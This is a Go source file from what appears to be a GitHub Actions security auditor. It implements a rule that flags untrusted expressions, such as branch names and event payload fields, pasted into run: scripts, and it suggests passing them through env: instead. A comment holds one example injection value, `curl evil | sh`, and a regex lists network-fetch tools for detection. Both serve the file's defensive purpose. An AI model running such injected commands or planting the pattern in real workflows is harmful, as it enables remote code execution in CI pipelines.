package audit

import (
	"fmt"
	"github.com/debugflow/debugflow/internal/lazyre"
	"strings"

	"github.com/goccy/go-yaml/ast"
)

// untrustedContexts are the context paths whose values a caller, a pull
// request author, whoever names a branch or an earlier step controls (a branch
// name may hold $(...) or backquotes: git allows them). "*" matches any one property.
// An expression naming one of them, or a whole object containing one (such
// as `toJSON(github)`), is flagged inside scripts. Other contexts
// (github.run_id, runner.temp, matrix.*, env.*) are fine.
var untrustedContexts = []struct {
	path []string
	what string
}{
	{[]string{"inputs"}, "workflow input"},
	{[]string{"github", "event"}, "event payload"},
	{[]string{"github", "head_ref"}, "pull request head branch name"},
	{[]string{"github", "ref_name"}, "branch or tag name"},
	{[]string{"github", "ref"}, "branch or tag ref"},
	{[]string{"steps", "*", "outputs"}, "step output"},
	{[]string{"needs", "*", "outputs"}, "job output"},
}

// expressionInjection refuses untrusted `${{ }}` expressions inside `run:`
// scripts and actions/github-script `script:` inputs. GitHub substitutes the
// expression into the script text before the shell (or node) runs it, so a
// value such as `main"; curl evil | sh; "` becomes code. The value must go
// through `env:` and be read as "$NAME".
//
// https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
type expressionInjection struct {
	ruleBase
}

func newExpressionInjection(file string) *expressionInjection {
	return &expressionInjection{ruleBase{file: file, info: Rule{
		Name:        "expression-injection",
		Description: "no inputs.*, github.event.*, github.head_ref, github.ref_name, steps.*.outputs.* or needs.*.outputs.* expression inside run: or github-script script:",
		URL:         "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections",
		Severity:    High,
		Confidence:  High,
	}}}
}

// VisitStep checks the step's scripts.
func (r *expressionInjection) VisitStep(s *stepNode) {
	for _, sc := range s.scripts() {
		script := s.doc.decodeScalar(sc.Node)
		for _, e := range findExpressions(script.Text) {
			path, what := s.doc.untrustedPath(e.Inner)
			if path == nil || ownComputation(s, path) {
				continue
			}
			env := envName(path)
			r.reportAt(script.pos(e.Offset),
				fmt.Sprintf("pass it through env: and use %s (env: %s: %s)", sc.Reference(env), env, compact(e.Source())),
				"%s is pasted into the %s script before it runs, so %s can inject code",
				compact(e.Source()), sc.Where, what)
			// The event payload and the head branch are anyone's; an input is chosen by
			// whoever may dispatch or call, an output may well be a value of ours, and a ref
			// is a branch someone with push access named.
			if path[0] != "github" || (len(path) > 1 && path[1] == "ref") {
				r.grade("", Medium)
			}
		}
	}
}

// matchesContext reports whether chain reads pattern or an object that
// contains it (chain is a prefix of pattern). A "*" on either side (an object filter,
// github.*.issue.title) matches any one property.
func matchesContext(chain, pattern []string) bool {
	for i := 0; i < len(chain) && i < len(pattern); i++ {
		if pattern[i] != "*" && chain[i] != "*" && chain[i] != pattern[i] { // github.*.issue: any property
			return false
		}
	}
	return true
}

// envName derives an environment variable name from a context path:
// inputs.quadrants_ref -> QUADRANTS_REF.
func envName(path []string) string {
	last := path[len(path)-1]
	for i := len(path) - 1; i >= 0 && last == "*"; i-- {
		last = path[i]
	}
	var b strings.Builder
	for _, c := range strings.ToUpper(last) {
		if (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') {
			b.WriteRune(c)
		} else {
			b.WriteByte('_')
		}
	}
	name := b.String()
	// GITHUB_* names are reserved for the runner; a leading digit is invalid.
	if name == "" || (name[0] >= '0' && name[0] <= '9') || strings.HasPrefix(name, "GITHUB") {
		name = "VALUE_" + name
	}
	return name
}

// compact shortens an expression for a one-line message.
func compact(s string) string {
	s = strings.Join(strings.Fields(s), " ")
	const limit = 80
	if r := []rune(s); len(r) > limit {
		s = string(r[:limit-3]) + "..."
	}
	return s
}

// outsideData matches code that reads data from outside the workflow's own files: the
// network, git history, the event payload, GitHub's API, an expression.
var outsideData = lazyre.New(`\b(gh|hub|curl|wget|git|jq|cat|http|https|Invoke-WebRequest|Invoke-RestMethod|iwr|irm|requests|urllib|fetch|octokit)\b|GITHUB_EVENT_PATH|GITHUB_HEAD_REF|GITHUB_REF|\$\{\{`)

// ownComputation reports whether path is the output of an earlier run: step of the same job
// whose code reads nothing from outside (no network, git, event payload, expression, and no
// env: variable set from untrusted data): a value it computes itself, such as
// `python -c "print(sys.version)"`, carries no one else's text.
func ownComputation(s *stepNode, path []string) bool {
	if len(path) < 4 || path[0] != "steps" || path[2] != "outputs" || path[1] == "*" {
		return false
	}
	for _, other := range s.Job.Steps[:min(s.Index, len(s.Job.Steps))] {
		if !strings.EqualFold(scalarText(other.get("id")), path[1]) {
			continue
		}
		run := other.get("run")
		if run == nil || other.get("uses") != nil {
			return false // an action's output: unknown
		}
		script := other.doc.decodeScalar(run).Text
		if outsideData.MatchString(script) {
			return false
		}
		// A variable of the step's, job's or workflow's env: set from untrusted data.
		for _, n := range []ast.Node{other.get("env"), other.Job.get("env"), other.doc.lookup(other.Job.Workflow.root, "env")} {
			for _, e := range other.doc.mappingEntries(n) {
				if p, _ := other.doc.untrustedIn(e.Value); p != nil && strings.Contains(script, e.Key) {
					return false
				}
			}
		}
		return true
	}
	return false
}
